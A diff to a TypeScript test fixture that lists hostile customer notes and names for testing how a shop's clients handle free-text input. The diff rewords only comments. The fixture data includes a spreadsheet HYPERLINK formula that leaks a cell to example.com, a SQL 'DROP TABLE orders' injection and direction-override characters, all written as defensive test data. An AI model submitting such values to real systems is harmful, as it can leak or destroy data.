@@ -1,7 +1,7 @@
 /**
- * What real customers and worse type into a shop's free-text fields. Each breaks a client that pastes
- * it into a CSV file, a terminal, an HTML page or an assistant's context as it is. Control and
- * formatting characters are escaped here so that this file can be read for what it says.
+ * Texts that customers and attackers type into free-text fields. Each breaks a client that copies it
+ * unchanged into a CSV file, a terminal, an HTML page or an assistant's context. Control and formatting
+ * characters are escaped, so that a reader of this file sees them.
  */
 export const hostileNotes = [
   '=HYPERLINK("https://example.com/?leak="&A1;"Klik hier")',
@@ -16,7 +16,7 @@ export const hostileNotes = [
   'caf\u00e9 cafe\u0301 \ud83d\udc69\u200d\ud83d\udc67 {"json": [1, 2]} ${HOME} %s %n \\u0041 \'; DROP TABLE orders;--',
 ] as const;
 
-/** First and last names that need the same care. */
+/** First and last names of the same kind. */
 export const hostileNames = [
   ['Zo\u00eb', 'van \u200b\'t "Hoog", \u202eegnaH'],
   ['=1+1', "O'Neill; -- \u00c6\u00df"],
